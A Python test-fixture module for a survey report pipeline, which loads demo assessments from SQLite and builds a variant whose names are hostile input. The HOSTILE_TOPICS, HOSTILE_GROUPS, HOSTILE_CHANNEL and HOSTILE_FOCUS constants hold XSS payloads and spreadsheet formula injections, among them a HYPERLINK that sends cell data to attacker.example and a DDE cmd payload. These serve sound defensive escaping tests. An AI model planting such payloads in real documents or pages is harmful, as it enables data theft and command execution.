"""Real analysis results for the report pack's tests: the demo assessments in a SQLite file, read
through the store and analysed by the pipeline, and a variant whose names are hostile text."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import numpy as np
import pandas as pd

from analysis.method import MethodConfig
from analysis.pipeline import AnalysisResult, analyse
from core.aggregates import AssessmentData
from survey.db import create_db_engine, transaction
from survey.demo import create_demo
from survey.reads import load_assessment_data

# Names a user could type into a catalog: markup, script, spreadsheet formulas, CJK.
HOSTILE_TOPICS = {
    "privacy_data_security": "</script><script>window.__pwned = 1</script>Privacy",
    "customer_service": '=HYPERLINK("http://attacker.example/?x="&A1,"Customer service")',
    "business_ethics": "<img src=x onerror=\"window.__pwned = 2\"> Ethics & 'quotes'",
    "emissions": "+1+2 Emissions",
    "climate_change": "气候变化 <b>climate</b>",
}
HOSTILE_GROUPS = {"clients": "@SUM(1+1) Clients", "investors": "-2+3 <i>Investors</i>"}
HOSTILE_CHANNEL = ("clients", "Satisfaction survey", "=cmd|' /C calc'!A0 survey")
HOSTILE_FOCUS = ("clients", "Product quality", '<svg onload="window.__pwned = 3">Product quality')


def demo_database(directory: Path) -> str:
    """URL of a SQLite file in `directory` holding the demo assessments 2019 and 2020."""
    url = f"sqlite:///{directory / 'demo.db'}"
    engine = create_db_engine(url)
    with transaction(engine) as session:
        create_demo(session=session)
    engine.dispose()
    return url


def load(url: str, key: str) -> AssessmentData:
    engine = create_db_engine(url)
    with transaction(engine) as session:
        data = load_assessment_data(session=session, assessment_key=key)
    engine.dispose()
    return data


def demo_result(url: str, method: MethodConfig | None = None, previous: bool = True) -> AnalysisResult:
    """The 2020 demo assessment analysed, with 2019 as its previous year."""
    return analyse(load(url, "2020"), method, load(url, "2019") if previous else None)


def hostile(data: AssessmentData) -> AssessmentData:
    """`data` with topic, group, channel and focus-area names replaced by hostile text."""
    topics = data.topics.assign(name=data.topics["topic"].map(HOSTILE_TOPICS).fillna(data.topics["name"]))
    groups = data.groups.assign(name=data.groups["group"].map(HOSTILE_GROUPS).fillna(data.groups["name"]))
    group, old, new = HOSTILE_CHANNEL
    channels = data.channels.copy()
    channels.loc[(channels["group"] == group) & (channels["channel"] == old), "channel"] = new
    responses = data.responses.copy()
    responses.loc[(responses["group"] == group) & (responses["channel"] == old), "channel"] = new
    group, old, new = HOSTILE_FOCUS
    focus = data.focus_areas.copy()
    focus.loc[(focus["group"] == group) & (focus["label"] == old), "label"] = new
    return dataclasses.replace(
        data, topics=topics, groups=groups, channels=channels, responses=responses, focus_areas=focus
    )


def hostile_result(url: str) -> AnalysisResult:
    return analyse(hostile(load(url, "2020")), None, hostile(load(url, "2019")))


def tracked_channel_stats(
    data: AssessmentData, links: dict[tuple[str, str], tuple[int, int]]
) -> pd.DataFrame:
    """Invitation tracking in the layout of `survey.tracking.tracking` for given
    (group, channel) -> (issued, submitted)."""
    rows = [
        {
            "group": g,
            "channel": c,
            "issued": issued,
            "opened": submitted,
            "drafts": 0,
            "submitted": submitted,
            "response_rate": submitted / issued if issued else np.nan,
            "open_link": False,
            "open_link_responses": 0,
        }
        for (g, c), (issued, submitted) in links.items()
    ]
    return pd.DataFrame(rows)
